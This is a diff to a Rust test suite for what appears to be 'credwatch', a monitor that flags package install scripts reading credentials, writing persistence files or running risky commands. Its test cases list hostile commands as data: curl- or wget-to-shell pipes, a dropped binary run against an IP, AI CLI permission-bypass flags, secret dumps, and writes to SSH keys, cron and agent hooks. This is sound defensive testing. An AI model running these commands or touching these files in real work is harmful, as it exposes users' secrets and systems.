@@ -1,7 +1,10 @@
 use std::collections::BTreeMap;
 
 use super::*;
-use crate::event::{Exit, Fork, Root};
+use crate::{
+    alert::AlertSyscall,
+    event::{Exit, Fork, Rename, Root, Syscall},
+};
 
 /// Drives an engine over the default rules with hand-written events.
 struct Run {
@@ -189,7 +192,7 @@ fn proc_macro_is_named_from_rustc_arguments_and_opens() {
         &["rustc", "--crate-name", "lib2", "--extern", &serde, "--extern", &evil],
         &[("CARGO_PKG_VERSION", "0.3.0")],
     )
-    .open(302, "/home/alice/.aws/credentials");
+    .open(302, "/home/alice/.aws/config");
     let alert = run.one();
     assert_eq!(alert.package.name.as_deref(), Some("lib2"));
     assert_eq!(alert.package.version.as_deref(), Some("0.3.0"));
@@ -259,7 +262,7 @@ fn lineage_survives_double_fork_setsid_and_the_managers_exit() {
     assert_eq!(run.engine.live_tree(100).iter().map(|(pid, _)| *pid).collect::<Vec<_>>(), [104]);
     run.open(104, "/home/alice/.ssh/id_ed25519");
     let alert = run.one();
-    assert_eq!(alert.rule.id, "ssh-keys");
+    assert_eq!(alert.rule.id, "ssh-private-keys");
     assert_eq!(alert.rule.severity, Severity::Critical);
     assert_eq!(alert.package.name.as_deref(), Some("worm"));
     assert_eq!(alert.package.lifecycle.as_deref(), Some("preinstall"));
@@ -296,24 +299,31 @@ fn unrelated_processes_failed_opens_and_o_path_do_not_alert() {
 }
 
 #[test]
-fn same_rule_pid_and_file_alert_once() {
+fn same_rule_tree_and_file_alert_once_then_at_powers_of_ten() {
     let mut run = Run::new();
     run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "x.js"], POSTINSTALL);
     run.open(101, "/home/alice/.aws/credentials").open(101, "/home/alice/.aws/credentials");
     run.open(101, "/home/alice/.aws/config");
+    // Another process of the same tree, same file: a repeat.
     run.spawn(102, 101, &["cat", "/home/alice/.aws/credentials"], &[]).open(102, "/home/alice/.aws/credentials");
     let alerts = run.take();
-    let seen: Vec<(u32, &str)> =
-        alerts.iter().map(|a| (a.process.pid, a.file.as_ref().unwrap().path.as_str())).collect();
-    assert_eq!(
-        seen,
-        [
-            (101, "/home/alice/.aws/credentials"),
-            (101, "/home/alice/.aws/config"),
-            (102, "/home/alice/.aws/credentials")
-        ]
-    );
-    assert_eq!(run.engine.stats().alerts, 3);
+    let seen: Vec<(u32, &str, Option<u64>)> =
+        alerts.iter().map(|a| (a.process.pid, a.file.as_ref().unwrap().path.as_str(), a.credwatch.count)).collect();
+    assert_eq!(seen, [(101, "/home/alice/.aws/credentials", None), (101, "/home/alice/.aws/config", None)]);
+    assert_eq!((run.engine.stats().alerts, run.engine.stats().repeats), (2, 2));
+    // The 10th and the 100th time are told, with the count.
+    for _ in 0..97 {
+        run.open(102, "/home/alice/.aws/credentials");
+    }
+    let counts: Vec<Option<u64>> = run.take().iter().map(|a| a.credwatch.count).collect();
+    assert_eq!(counts, [Some(10), Some(100)]);
+    assert_eq!(run.engine.stats().repeats, 97);
+    // Another tree reading the same file alerts on its own.
+    run.exec(200, 1, &["npm", "install"], &[]).spawn(201, 200, &["node", "x.js"], POSTINSTALL);
+    run.open(201, "/home/alice/.aws/credentials");
+    assert_eq!(run.one().credwatch.count, None);
+    // Nothing was folded and no sweep is pending.
+    assert!(run.engine.flush().is_empty());
 }
 
 #[test]
@@ -333,7 +343,7 @@ fn actors_allow_the_manager_and_lower_git_under_it() {
         .exec_full(111, 110, "/usr/bin/ssh", &["ssh", "git@github.com"], "/tmp", &[])
         .open(111, "/home/alice/.ssh/id_ed25519");
     let alert = run.one();
-    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("ssh-keys", Severity::Low));
+    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("ssh-private-keys", Severity::Low));
 
     // The same ssh run by package code is not git under the manager.
     run.spawn(120, 100, &["sh", "-c", "ssh x"], POSTINSTALL)
@@ -342,8 +352,12 @@ fn actors_allow_the_manager_and_lower_git_under_it() {
         .open(121, "/home/alice/.ssh/id_ed25519");
     assert_eq!(run.one().rule.severity, Severity::Critical);
 
-    // `npm whoami` from a postinstall is a nested manager: reported, low.
-    run.spawn(130, 120, &["npm", "whoami"], POSTINSTALL).open(130, "/home/alice/.npmrc");
+    // `npm whoami` from a postinstall: the exec itself alerts, and as a nested manager its
+    // read of ~/.npmrc is reported, low.
+    run.spawn(130, 120, &["npm", "whoami"], POSTINSTALL);
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str(), alert.file), ("npm-token-use", "exec", None));
+    run.open(130, "/home/alice/.npmrc");
     let alert = run.one();
     assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("npm-registry-token", Severity::Low));
     assert_eq!(alert.process.ancestors.iter().map(|a| a.pid).collect::<Vec<_>>(), [100, 120]);
@@ -365,7 +379,7 @@ fn run_roots_and_nested_managers() {
     run.spawn(502, 500, &["cargo", "build"], &[]).open(502, "/home/alice/.cargo/credentials.toml");
     assert!(run.take().is_empty(), "cargo started by CMD is an outermost manager");
     run.spawn(503, 502, &["/home/alice/w/target/release/build/x-0011223344556677/build-script-build"], &[])
-        .open(503, "/home/alice/.vault-token");
+        .open(503, "/home/alice/.pgpass");
     let alert = run.one();
     assert_eq!((alert.package.manager.as_str(), alert.credwatch.root_pid), ("cargo", 500));
     assert_eq!(alert.package.name.as_deref(), Some("x"));
@@ -511,4 +525,499 @@ fn a_full_table_drops_its_oldest_entries() {
     assert_eq!(alert.process.ancestors[0].pid, 1010);
     run.open(1009, "/home/alice/.vault-token");
     assert!(run.take().is_empty());
+}
+
+/// A tree at `npm install` (100) → postinstall shell (101) → `node x.js` (102).
+fn npm_tree() -> Run {
+    let mut run = Run::new();
+    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["sh", "-c", "node x.js"], POSTINSTALL).spawn(
+        102,
+        101,
+        &["node", "x.js"],
+        &[],
+    );
+    run
+}
+
+fn write_flags() -> u64 {
+    (libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC | libc::O_CLOEXEC) as u64
+}
+
+fn rename(run: &mut Run, pid: u32, syscall: &str, old: &str, new: &str) {
+    run.send(
+        pid,
+        EventData::Rename(Rename {
+            tid: pid,
+            syscall: syscall.into(),
+            old_path: old.into(),
+            new_path: new.into(),
+            old_abs: Some(old.into()),
+            new_abs: Some(new.into()),
+            ret: 0,
+        }),
+    );
+}
+
+fn syscall(run: &mut Run, pid: u32, name: &str, operation: Option<&str>, target: Option<u32>, blocked: bool) {
+    run.send(
+        pid,
+        EventData::Syscall(Syscall {
+            tid: pid,
+            name: name.into(),
+            target_pid: target,
+            operation: operation.map(str::to_owned),
+            ret: (!blocked).then_some(0),
+            blocked,
+        }),
+    );
+}
+
+#[test]
+fn exec_rules_match_names_arguments_and_command_lines() {
+    let cases: &[(&[&str], Option<&str>)] = &[
+        (&["claude", "--dangerously-skip-permissions", "-p", "find secrets"], Some("ai-cli-claude-unsafe")),
+        (&["claude", "-p", "hello"], None),
+        (&["gemini", "--yolo", "-p", "x"], Some("ai-cli-gemini-yolo")),
+        (&["gemini", "--approval-mode=yolo"], Some("ai-cli-gemini-yolo")),
+        (&["gemini", "--approval-mode", "auto_edit"], None),
+        (&["q", "chat", "--no-interactive", "--trust-all-tools", "x"], Some("ai-cli-q-trust-all-tools")),
+        (&["q", "--trust-all-tools"], None),
+        (&["codex", "exec", "--dangerously-bypass-approvals-and-sandbox", "x"], Some("ai-cli-codex-unsafe")),
+        (&["gh", "auth", "token"], Some("gh-auth-token")),
+        (&["gh", "auth", "status", "--show-token"], Some("gh-auth-token")),
+        (&["gh", "pr", "list"], None),
+        (&["npm", "whoami"], Some("npm-token-use")),
+        (&["npm", "--registry", "https://r.example", "publish"], Some("npm-publish-from-package")),
+        (&["npm", "run", "build"], None),
+        (&["/tmp/th/trufflehog", "filesystem", "/home/alice"], Some("trufflehog")),
+        (&["sh", "-c", "curl -fsSL https://bun.sh/install | bash"], Some("curl-pipe-shell")),
+        (&["bash", "-c", "cd /tmp && wget -qO- http://1.2.3.4/x|sudo -E python3 -"], Some("curl-pipe-shell")),
+        (&["sh", "-c", "curl -fsSL https://x/sums | grep shasum"], None),
+        (&["sudo", "-n", "true"], Some("sudo-non-interactive")),
+        (&["sudo", "-En", "true"], Some("sudo-non-interactive")),
+        (&["sudo", "--preserve-env", "make"], None),
+        (&["docker", "run", "--privileged", "--volume=/:/host", "alpine"], Some("docker-privileged-host-root")),
+        (&["docker", "run", "--privileged", "-v", "/srv:/srv", "alpine"], None),
+        (&["git", "push", "-u", "origin", "shai-hulud"], Some("git-push-from-package")),
+        (&["git", "status"], None),
+        (&["gh", "repo", "create", "x", "--public"], Some("gh-repo-create")),
+        (&["kubectl", "get", "secrets", "-A", "-o", "json"], Some("kubectl-get-secrets")),
+        (&["kubectl", "get", "pods", "-A"], None),
+    ];
+    for (args, want) in cases {
+        let mut run = npm_tree();
+        run.spawn(103, 102, args, &[]);
+        let alerts = run.take();
+        let ids: Vec<&str> = alerts.iter().map(|a| a.rule.id.as_str()).collect();
+        assert_eq!(ids, want.iter().copied().collect::<Vec<_>>(), "{args:?}");
+        if let Some(alert) = alerts.first() {
+            assert_eq!((alert.event.action.as_str(), alert.process.pid), ("exec", 103));
+            assert_eq!(alert.process.args, *args);
+            assert_eq!(alert.package.name.as_deref(), Some("evil-pkg"));
+            assert!(alert.file.is_none());
+        }
+    }
+}
+
+#[test]
+fn exec_rules_spare_the_root_and_the_users_own_commands() {
+    let mut run = Run::new();
+    // The user's own npm publish, and its package's prepublishOnly script.
+    run.exec(100, 1, &["npm", "publish"], &[]).spawn(101, 100, &["sh", "-c", "tsc"], POSTINSTALL);
+    // `credwatch run -- claude --dangerously-skip-permissions`: the user's choice.
+    run.send(200, EventData::Root(Root { reason: "run".into() })).exec(
+        200,
+        1,
+        &["claude", "--dangerously-skip-permissions"],
+        &[],
+    );
+    // `credwatch run -- make release`: make's git push and npm publish are the user's.
+    run.send(300, EventData::Root(Root { reason: "run".into() }))
+        .exec(300, 1, &["make", "release"], &[])
+        .spawn(301, 300, &["git", "push"], &[])
+        .spawn(302, 300, &["npm", "publish"], &[]);
+    assert!(run.take().is_empty());
+    // But package code below that npm publish is package code.
+    run.spawn(303, 302, &["sh", "-c", "npm whoami"], POSTINSTALL).spawn(304, 303, &["npm", "whoami"], &[]);
+    assert_eq!(run.one().rule.id, "npm-token-use");
+}
+
+#[test]
+fn exec_of_a_file_the_tree_wrote() {
+    // A static binary dropped in /tmp and run (proc-macro1's build script).
+    let mut run = npm_tree();
+    run.open_full(102, "/tmp/rust-setup", Some("/tmp/rust-setup"), 4, write_flags()).spawn(
+        103,
+        102,
+        &["/tmp/rust-setup", "23.254.165.112:443"],
+        &[],
+    );
+    let alert = run.one();
+    assert_eq!(alert.rule.id, "exec-of-written-file");
+    assert_eq!(alert.credwatch.written_file.as_deref(), Some("/tmp/rust-setup"));
+
+    // Written under another name, then renamed; the program is a copied interpreter.
+    let mut run = npm_tree();
+    run.open_full(102, "/tmp/.x.part", Some("/tmp/.x.part"), 4, write_flags());
+    rename(&mut run, 102, "renameat2", "/tmp/.x.part", "/tmp/.x");
+    run.spawn(103, 102, &["/tmp/.x", "-e", "1"], &[]);
+    assert_eq!(run.one().credwatch.written_file.as_deref(), Some("/tmp/.x"));
+
+    // A script it wrote, run by an interpreter (tj-actions' /tmp/run.sh), relative to cwd.
+    let mut run = npm_tree();
+    run.open_full(102, "run.sh", Some("/tmp/run.sh"), 4, write_flags()).fork(102, 103).exec_full(
+        103,
+        102,
+        "/bin/bash",
+        &["bash", "./run.sh"],
+        "/tmp",
+        &[],
+    );
+    let alert = run.one();
+    assert_eq!(
+        (alert.rule.id.as_str(), alert.credwatch.written_file.as_deref()),
+        ("exec-of-written-file", Some("/tmp/run.sh"))
+    );
+
+    // A Bun it downloaded is its own, critical rule.
+    let mut run = npm_tree();
+    run.open_full(102, "/home/alice/.bun/bin/bun", Some("/home/alice/.bun/bin/bun"), 4, write_flags()).spawn(
+        103,
+        102,
+        &["/home/alice/.bun/bin/bun", "bun_environment.js"],
+        &[],
+    );
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("downloaded-bun", Severity::Critical));
+}
+
+#[test]
+fn exec_of_files_the_tree_did_not_write_does_not_alert() {
+    let mut run = npm_tree();
+    // Read, not written.
+    run.open(102, "/tmp/tool").spawn(103, 102, &["/tmp/tool"], &[]);
+    // Written by the manager itself (unpacking a package), run by package code.
+    run.open_full(100, "/tmp/npm-1/tool", Some("/tmp/npm-1/tool"), 4, write_flags()).spawn(
+        104,
+        102,
+        &["/tmp/npm-1/tool"],
+        &[],
+    );
+    // Written under node_modules by package code (install scripts fetching their binary).
+    run.open_full(102, "bin/esbuild", Some("/home/alice/app/node_modules/esbuild/bin/esbuild"), 4, write_flags())
+        .spawn(105, 102, &["/home/alice/app/node_modules/esbuild/bin/esbuild", "--version"], &[]);
+    // A failed open wrote nothing.
+    run.open_full(102, "/tmp/failed", None, -13, write_flags()).spawn(106, 102, &["/tmp/failed"], &[]);
+    assert!(run.take().is_empty());
+
+    // cargo runs the build script its rustc/linker wrote: the manager's doing.
+    let script = "/home/alice/w/target/debug/build/x-00ff00ff00ff00ff/build-script-build";
+    run.exec(300, 1, &["cargo", "build"], &[])
+        .spawn(301, 300, &["rustc", "--crate-name", "build_script_build"], &[])
+        .spawn(302, 301, &["cc", "-o", script], &[])
+        .open_full(302, script, Some(script), 4, write_flags())
+        .spawn(303, 300, &[script], &[]);
+    assert!(run.take().is_empty());
+    // ...but what that build script writes and runs is not.
+    run.open_full(303, "/tmp/payload", Some("/tmp/payload"), 4, write_flags()).spawn(304, 303, &["/tmp/payload"], &[]);
+    assert_eq!(run.one().rule.id, "exec-of-written-file");
+}
+
+#[test]
+fn persistence_writes_alert_and_reads_do_not() {
+    let mut run = npm_tree();
+    run.open(102, "/home/alice/.bashrc");
+    run.open_full(102, "/home/alice/.bashrc", Some("/home/alice/.bashrc"), 3, (libc::O_WRONLY | libc::O_APPEND) as u64);
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.rule.category.as_str()), ("shell-rc-write", "persistence"));
+    assert_eq!(alert.file.as_ref().unwrap().flags, "O_WRONLY|O_APPEND");
+
+    for (path, rule) in [
+        ("/home/alice/.config/systemd/user/sysmon.service", "systemd-user-unit-write"),
+        ("/var/spool/cron/crontabs/alice", "crontab-write"),
+        ("/etc/sudoers.d/runner", "sudoers-write"),
+        ("/home/alice/src/other-repo/.github/workflows/formatter_123.yml", "github-workflow-write"),
+        ("/home/alice/.venv/lib/python3.12/site-packages/litellm_init.pth", "python-pth-write"),
+        ("/home/alice/.claude/hooks/pre.sh", "ai-agent-config-write"),
+        ("/home/alice/app/.claude/settings.json", "ai-agent-config-write"),
+        ("/home/alice/.ssh/authorized_keys", "ssh-authorized-keys-write"),
+    ] {
+        run.open_full(102, path, Some(path), 3, write_flags());
+        assert_eq!(run.one().rule.id, rule, "{path}");
+    }
+    // creat(2) is a write whatever its flags say.
+    run.send(
+        102,
+        EventData::Open(Open {
+            tid: 102,
+            syscall: "creat".into(),
+            dirfd: AT_FDCWD,
+            path: "/home/alice/.profile".into(),
+            abs_path: Some("/home/alice/.profile".into()),
+            ret: 3,
+            ..Open::default()
+        }),
+    );
+    assert_eq!(run.one().rule.id, "shell-rc-write");
+}
+
+#[test]
+fn persistence_by_rename_and_link() {
+    let mut run = npm_tree();
+    rename(&mut run, 102, "renameat2", "/tmp/rc", "/home/alice/.zshrc");
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str()), ("shell-rc-write", "rename"));
+    let file = alert.file.unwrap();
+    assert_eq!((file.path.as_str(), file.renamed_from.as_deref()), ("/home/alice/.zshrc", Some("/tmp/rc")));
+    rename(&mut run, 102, "linkat", "/tmp/w.yml", "/home/alice/app/.github/workflows/discussion.yaml");
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str()), ("github-workflow-write", "link"));
+    rename(&mut run, 102, "symlinkat", "/tmp/evil.service", "/home/alice/.config/systemd/user/x.service");
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str()), ("systemd-user-unit-write", "symlink"));
+    // A failed rename did nothing.
+    run.send(
+        102,
+        EventData::Rename(Rename {
+            tid: 102,
+            syscall: "rename".into(),
+            old_path: "/tmp/rc".into(),
+            new_path: "/home/alice/.bash_profile".into(),
+            ret: -13,
+            ..Rename::default()
+        }),
+    );
+    assert!(run.take().is_empty());
+}
+
+#[test]
+fn the_manager_extracting_files_is_not_persistence() {
+    let mut run = Run::new();
+    run.exec(100, 1, &["npm", "install"], &[]);
+    run.open_full(100, "x", Some("/home/alice/app/.github/workflows/ci.yml"), 3, write_flags());
+    rename(&mut run, 100, "rename", "/home/alice/.npm/_cacache/tmp/x", "/home/alice/app/.claude/settings.json");
+    run.exec(200, 1, &["python3", "-m", "pip", "install", "litellm"], &[]).open_full(
+        200,
+        "x",
+        Some("/home/alice/.venv/lib/python3.12/site-packages/litellm_init.pth"),
+        3,
+        write_flags(),
+    );
+    assert!(run.take().is_empty());
+    // The same write by pip's build backend (package code) is.
+    run.spawn(201, 200, &["python3", "setup.py", "install"], &[]).open_full(
+        201,
+        "x",
+        Some("/home/alice/.venv/lib/python3.12/site-packages/litellm_init.pth"),
+        3,
+        write_flags(),
+    );
+    assert_eq!(run.one().rule.id, "python-pth-write");
+}
+
+#[test]
+fn syscall_rules_and_their_targets() {
+    let mut run = npm_tree();
+    run.spawn(103, 102, &["node", "child.js"], &[]);
+    // Within the tree: a parent stopping or debugging its own child, a process itself.
+    syscall(&mut run, 102, "kill", Some("SIGTERM"), Some(103), false);
+    syscall(&mut run, 102, "ptrace", Some("PTRACE_ATTACH"), Some(103), false);
+    syscall(&mut run, 102, "process_vm_readv", None, Some(102), false);
+    syscall(&mut run, 102, "ptrace", Some("PTRACE_TRACEME"), None, false);
+    assert!(run.take().is_empty());
+
+    syscall(&mut run, 102, "ptrace", Some("PTRACE_SEIZE"), Some(1733), false);
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.rule.category.as_str()), ("ptrace-attach", "tamper"));
+    assert_eq!((alert.event.action.as_str(), alert.event.outcome.as_str()), ("syscall", "alerted"));
+    assert_eq!(
+        alert.credwatch.syscall,
+        Some(AlertSyscall {
+            name: "ptrace".into(),
+            operation: Some("PTRACE_SEIZE".into()),
+            target_pid: Some(1733),
+            ret: Some(0)
+        })
+    );
+    syscall(&mut run, 102, "process_vm_writev", None, Some(1733), false);
+    assert_eq!(run.one().rule.id, "process-vm-access");
+    syscall(&mut run, 102, "init_module", None, None, false);
+    assert_eq!(run.one().rule.id, "kernel-module-load");
+    syscall(&mut run, 102, "tgkill", Some("SIGSTOP"), Some(4242), false);
+    assert_eq!(run.one().rule.id, "signal-to-agent");
+    syscall(&mut run, 102, "io_uring_setup", None, None, false);
+    assert_eq!((run.one().rule.category.as_str()), "evasion");
+    syscall(&mut run, 102, "io_uring_submit_req", Some("IORING_OP_OPENAT"), None, false);
+    syscall(&mut run, 102, "io_uring_submit_req", Some("IORING_OP_OPENAT"), None, false);
+    syscall(&mut run, 102, "io_uring_submit_req", Some("IORING_OP_READ"), None, false);
+    assert_eq!(run.one().rule.id, "io-uring-file-ops");
+    // The manager's own processes and unrelated ones are not package code.
+    syscall(&mut run, 1, "bpf", Some("BPF_PROG_LOAD"), None, false);
+    assert!(run.take().is_empty());
+}
+
+#[test]
+fn blocked_events_say_so() {
+    let mut run = npm_tree();
+    syscall(&mut run, 102, "bpf", Some("BPF_PROG_LOAD"), None, true);
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.event.outcome.as_str()), ("bpf-by-package", "blocked"));
+    assert_eq!(alert.credwatch.enforcement, "kernel");
+    assert_eq!(alert.credwatch.syscall.as_ref().unwrap().ret, None);
+
+    // An open killed at entry: it never returned, nothing was resolved by the kernel.
+    run.send(
+        102,
+        EventData::Open(Open {
+            tid: 102,
+            syscall: "openat".into(),
+            dirfd: AT_FDCWD,
+            path: "/home/alice/.aws/credentials".into(),
+            ret: -4,
+            blocked: true,
+            ..Open::default()
+        }),
+    );
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.event.outcome.as_str()), ("aws-credentials", "blocked"));
+    assert_eq!(alert.credwatch.enforcement, "kernel");
+    assert_eq!(alert.file.unwrap().path, "/home/alice/.aws/credentials");
+}
+
+#[test]
+fn an_inode_match_alerts_as_the_credential_file() {
+    let mut run = npm_tree();
+    // A hardlink to the key, opened under its own name.
+    run.send(
+        102,
+        EventData::Open(Open {
+            tid: 102,
+            syscall: "openat".into(),
+            dirfd: AT_FDCWD,
+            path: "/tmp/x".into(),
+            abs_path: Some("/tmp/x".into()),
+            ret: 3,
+            same_file_as: Some("/home/alice/.ssh/id_rsa".into()),
+            ..Open::default()
+        }),
+    );
+    let alert = run.one();
+    assert_eq!(alert.rule.id, "ssh-private-keys");
+    let file = alert.file.unwrap();
+    assert_eq!((file.path.as_str(), file.same_file_as.as_deref()), ("/tmp/x", Some("/home/alice/.ssh/id_rsa")));
+    // The original opened by name is the same file: a repeat, not a new alert.
+    run.open(102, "/home/alice/.ssh/id_rsa");
+    assert!(run.take().is_empty());
+    // Making the link is caught too.
+    rename(&mut run, 102, "link", "/home/alice/.ssh/id_ed25519", "/tmp/y");
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str()), ("ssh-private-keys", "link"));
+    assert_eq!(alert.file.unwrap().renamed_to.as_deref(), Some("/tmp/y"));
+    // So is a symlink to it, its text relative to the link's directory.
+    rename(&mut run, 102, "symlinkat", "../home/alice/.aws/credentials", "/tmp/z");
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str()), ("aws-credentials", "symlink"));
+    assert_eq!(alert.file.unwrap().path, "/home/alice/.aws/credentials");
+}
+
+#[test]
+fn a_sweep_is_one_alert_and_folds_the_rest() {
+    let mut run = npm_tree();
+    run.open(102, "/home/alice/.npmrc").open(102, "/home/alice/.aws/credentials");
+    assert_eq!(run.take().len(), 2);
+    // A third category within the window: the sweep alert instead of a third one.
+    run.open(102, "/home/alice/.ssh/id_ed25519");
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("credential-sweep", Severity::Critical));
+    let sweep = alert.credwatch.sweep.clone().unwrap();
+    assert_eq!(sweep.categories, ["cloud", "registry", "ssh"]);
+    assert_eq!(sweep.rules, ["aws-credentials", "npm-registry-token", "ssh-private-keys"]);
+    assert_eq!((sweep.folded, sweep.window_s, sweep.is_final), (0, 30, false));
+    assert!(alert.credwatch.rotate.iter().any(|r| r.starts_with("AWS")));
+    assert!(alert.credwatch.rotate.iter().any(|r| r.starts_with("Assume every credential")));
+    // Later credential alerts of the tree, by any member, are folded.
+    run.spawn(103, 102, &["cat"], &[]);
+    for path in ["/home/alice/.kube/config", "/home/alice/.docker/config.json", "/home/alice/.vault-token"] {
+        run.open(103, path);
+    }
+    run.open(103, "/home/alice/.vault-token");
+    assert!(run.take().is_empty());
+    assert_eq!(run.engine.stats().folded, 4);
+    // Other kinds of alerts still go out on their own.
+    run.spawn(104, 102, &["gh", "auth", "token"], &[]);
+    assert_eq!(run.one().rule.id, "gh-auth-token");
+    // The end of the stream: one final summary with the counts, once.
+    let summary = run.engine.flush();
+    assert_eq!(summary.len(), 1, "{summary:#?}");
+    let sweep = summary[0].credwatch.sweep.clone().unwrap();
+    assert!(sweep.is_final);
+    assert_eq!(sweep.folded, 4);
+    assert_eq!(sweep.categories, ["cloud", "docker", "kubernetes", "registry", "secrets", "ssh"]);
+    assert_eq!(
+        sweep.folded_by_category,
+        BTreeMap::from([("docker".into(), 1), ("kubernetes".into(), 1), ("secrets".into(), 2)])
+    );
+    assert_eq!(summary[0].process.pid, 102);
+    assert!(summary[0].credwatch.rotate.iter().any(|r| r.starts_with("Vault")));
+    assert!(run.engine.flush().is_empty());
+}
+
+#[test]
+fn a_sweep_summary_comes_when_the_tree_ends() {
+    let mut run = npm_tree();
+    for path in ["/home/alice/.npmrc", "/home/alice/.aws/credentials", "/home/alice/.ssh/id_rsa", "/home/alice/.pgpass"]
+    {
+        run.open(102, path);
+    }
+    assert_eq!(run.take().len(), 3);
+    run.exit(102).exit(101);
+    assert!(run.take().is_empty());
+    run.exit(100);
+    let alert = run.one();
+    assert_eq!(alert.rule.id, "credential-sweep");
+    assert_eq!(alert.credwatch.sweep.unwrap().folded, 1);
+    assert!(run.engine.flush().is_empty());
+}
+
+#[test]
+fn no_sweep_outside_the_window_or_for_low_alerts() {
+    let mut run = npm_tree();
+    run.open(102, "/home/alice/.npmrc").open(102, "/home/alice/.aws/credentials");
+    run.time_ns += 31_000_000_000;
+    run.open(102, "/home/alice/.ssh/id_rsa");
+    assert_eq!(run.take().iter().filter(|a| a.rule.id == "credential-sweep").count(), 0);
+
+    // git and ssh under the manager for a git dependency: low alerts, no sweep.
+    let mut run = Run::new();
+    run.exec(100, 1, &["npm", "install"], &[])
+        .spawn(110, 100, &["git", "clone", "https://x/y.git"], &[])
+        .open(110, "/home/alice/.git-credentials")
+        .open(110, "/home/alice/.netrc")
+        .spawn(111, 110, &["ssh", "git@x"], &[])
+        .open(111, "/home/alice/.ssh/id_rsa");
+    let alerts = run.take();
+    assert_eq!(alerts.len(), 3);
+    assert!(alerts.iter().all(|a| a.rule.severity == Severity::Low));
+}
+
+#[test]
+fn blocked_reads_are_not_folded_into_a_sweep() {
+    let mut run = npm_tree();
+    for path in ["/home/alice/.npmrc", "/home/alice/.aws/credentials", "/home/alice/.ssh/id_rsa"] {
+        run.open(102, path);
+    }
+    run.take();
+    run.send(
+        102,
+        EventData::Open(Open {
+            tid: 102,
+            syscall: "openat".into(),
+            dirfd: AT_FDCWD,
+            path: "/home/alice/.vault-token".into(),
+            ret: -4,
+            blocked: true,
+            ..Open::default()
+        }),
+    );
+    assert_eq!(run.one().event.outcome, "blocked");
 }
